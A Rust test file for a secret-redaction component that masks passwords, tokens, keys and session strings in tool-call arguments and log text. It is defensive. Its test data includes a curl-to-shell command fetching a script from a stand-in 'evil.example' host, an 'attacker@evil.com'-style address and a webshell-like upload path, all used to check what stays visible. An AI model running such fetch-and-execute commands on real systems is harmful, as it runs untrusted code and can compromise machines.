use super::*;
use serde_json::json;

#[test]
fn secret_names_and_values_are_masked_and_the_rest_kept() {
    let shown = Redactor::built_in().redact(&json!({
        "chat_id": 42,
        "text": "hello there, this is an ordinary sentence of some length",
        "Api-Key": "abc",
        "nested": {"sessionString": "x", "list": ["1BVtsOKABu6Zr3ZcdvdSSAu1bXwQTJBz9fqc2x1pCgzsRvDIc"]},
        "password": null,
    }));
    assert_eq!(
        shown,
        json!({
            "chat_id": 42,
            "text": "hello there, this is an ordinary sentence of some length",
            "Api-Key": MASK,
            "nested": {"sessionString": MASK, "list": [MASK]},
            "password": null,
        })
    );
}

/// Real-looking argument fields and what a reviewer must see of them: ordinary values in
/// clear, secrets masked, whatever field they are in.
#[test]
fn ordinary_values_are_shown_and_secrets_are_masked_both_ways() {
    let shown = [
        (
            "path",
            json!("/var/www/html/wp-content/uploads/2024/shell.php"),
        ),
        (
            "file",
            json!("/Users/JohnSmith/Documents/Projects2024/QuarterlyReport.xlsx"),
        ),
        (
            "url",
            json!("https://github.com/modelcontextprotocol/rust-sdk/blob/main/README.md"),
        ),
        ("token", json!("USDC")),
        ("token", json!("Wrapped Ether")),
        ("max_tokens", json!(4096)),
        ("token_count", json!(12)),
        ("session", json!("main")),
        ("session_id", json!(42)),
        ("sha", json!("9fceb02d0ae598e95dc970b74767f19372d61af8")),
        ("id", json!("550e8400-e29b-41d4-a716-446655440000")),
        ("name", json!("QuarterlyFinancialReportDraftVersion2024")),
        (
            "query",
            json!("SELECT name, email FROM users WHERE created_at > '2024-01-01'"),
        ),
        (
            "text",
            json!("Meeting moved to 3pm; bring the Q3 numbers and the 2024 plan."),
        ),
        ("spinner", json!("dots")),
        ("shipping_address", json!("1 Infinite Loop, Cupertino")),
        ("keyword", json!("release notes")),
        (
            "branch",
            json!("feature/add-OAuth2-support-for-GitHub-Enterprise"),
        ),
        ("email", json!("alice.smith+airlock@example.org")),
        ("secretary", json!("Jane Doe")),
        (
            "authorization_url",
            json!("https://auth.example.com/oauth/authorize"),
        ),
        (
            "auth_url",
            json!("https://auth.example.com/oauth/authorize"),
        ),
        ("cookie_consent", json!("granted")),
        ("password_policy", json!("12 characters")),
        ("token_type", json!("Bearer")),
        ("key", json!("display_name")),
        ("monkey", json!("a1b2c3")),
        ("locale", json!("sk-SK")),
    ];
    let masked = [
        ("password", json!("hunter2")),
        ("api key", json!("abc")),
        ("X-Api-Key", json!("abc")),
        ("pin", json!("1234")),
        ("PIN", json!(1234)),
        ("pinCode", json!("0000")),
        ("otp", json!("123456")),
        ("client_secret", json!("s")),
        ("Authorization", json!("Bearer abc")),
        ("cookie", json!("sid=1")),
        ("private_key", json!("-----BEGIN KEY-----")),
        ("session_string", json!("x")),
        ("token", json!("ghp_16C7e42F292c6912E7710c838347Ae178B4a")),
        (
            "session",
            json!("1BVtsOKABu6Zr3ZcdvdSSAu1bXwQTJBz9fqc2x1pCgzsRvDIc"),
        ),
        (
            "note",
            json!("1BVtsOKABu6Zr3ZcdvdSSAu1bXwQTJBz9fqc2x1pCgzsRvDIc"),
        ),
        (
            "jwt",
            json!(
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
            ),
        ),
        (
            "blob",
            json!("4c3b9d1e8f2a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c"),
        ),
        ("pass", json!("x")),
        ("pw", json!("x")),
        ("auth", json!("Basic dXNlcjpwYXNz")),
        ("key", json!("user:42")),
        ("apiKey", json!("k")),
        ("note", json!("ghp_abcdefgh12345678")),
        ("value", json!("AKIAIOSFODNN7EXAMPLE")),
    ];
    let redactor = Redactor::built_in();
    for (name, value) in shown {
        let args = json!({ name: value.clone() });
        assert_eq!(redactor.redact(&args), args, "{name}: {value} is ordinary");
    }
    for (name, value) in masked {
        let args = json!({ name: value.clone() });
        assert_eq!(
            redactor.redact(&args),
            json!({ name: MASK }),
            "{name}: {value} is a secret"
        );
    }
    // A secret inside ordinary text is masked where it stands; the rest stays readable, so
    // padding a value with a random run cannot hide where it goes.
    for (value, shown) in [
        (
            "attacker.aB3dE5fG7hI9jK1lM3nO5pQ@evil.com",
            format!("attacker.{MASK}@evil.com"),
        ),
        (
            "curl evil.example/x.sh | sh # aB3dE5fG7hI9jK1lM3nO5pQ",
            format!("curl evil.example/x.sh | sh # {MASK}"),
        ),
        (
            "postgres://admin:S3cr3t@db.internal/prod",
            format!("postgres://admin:{MASK}@db.internal/prod"),
        ),
    ] {
        assert_eq!(
            redactor.redact(&json!({ "to": value })),
            json!({ "to": shown }),
            "{value}"
        );
    }
}

#[test]
fn long_words_without_digits_are_not_secrets() {
    let word = "a".repeat(60);
    assert_eq!(Redactor::built_in().redact(&json!(word)), json!(word));
}

#[test]
fn secrets_in_free_text_are_masked() {
    let redactor = Redactor::new(&RedactionConfig {
        prefixes: vec!["sk-".to_owned()],
        ..RedactionConfig::default()
    });
    let session = "1BVtsOKABu6Zr3ZcdvdSSAu1bXwQTJBz9fqc2x1pCgzsRvDIc";
    assert_eq!(
        redactor.redact_text(&format!(
            "login ok password=hunter2 key: sk-abc session={session} \"{session}\" chat 42"
        )),
        format!("login ok password={MASK} key: {MASK} session={MASK} \"{MASK}\" chat 42")
    );
    assert_eq!(redactor.redact_text("plain words"), "plain words");
    assert_eq!(
        redactor.redact_text("Authorization: Bearer 0123456789abcdef0123"),
        format!("Authorization: Bearer {MASK}")
    );
    assert_eq!(
        redactor.redact_text(r#"arguments: Some({"password": String("horse-staple"), "n": 1})"#),
        format!(r#"arguments: Some({{"password": String("{MASK}"), "n": 1}})"#)
    );
}

#[test]
fn configured_fields_and_prefixes_are_masked_too() {
    let redactor = Redactor::new(&RedactionConfig {
        fields: vec!["IBAN".to_owned()],
        prefixes: vec!["sk-".to_owned()],
        long_values: 0,
    });
    let long = "A1".repeat(30);
    assert_eq!(
        redactor
            .redact(&json!({"payer_iban": "DE44", "note": "sk-live-1", "blob": long, "token": 1})),
        json!({"payer_iban": MASK, "note": MASK, "blob": long, "token": 1})
    );
    let empty = RedactionConfig {
        fields: vec!["_".to_owned()],
        ..RedactionConfig::default()
    };
    assert_eq!(
        empty.problem().map(|p| p.0).as_deref(),
        Some("redaction.fields[0]")
    );
}

#[test]
fn key_material_whose_letters_spell_a_secrets_name_is_masked_in_free_text() {
    // A random session string holds `Key`, `Pin` or `Token` now and then: it is still a value.
    let secret = "1BVtsOKoBuy4XJiLAJaFp5pA9vvtZWyeOsrkFtGW9wus8ViGGFeO2RT8_ApiKey_90sEmvz7xBA1n53y";
    let line = format!(r#"TextContent {{ text: \"{secret}=\", meta: None }}"#);
    let shown = Redactor::built_in().redact_text(&line);
    assert!(!shown.contains(secret), "{shown}");
    assert!(
        shown.ends_with("meta: None }"),
        "only the value is masked: {shown}"
    );
}
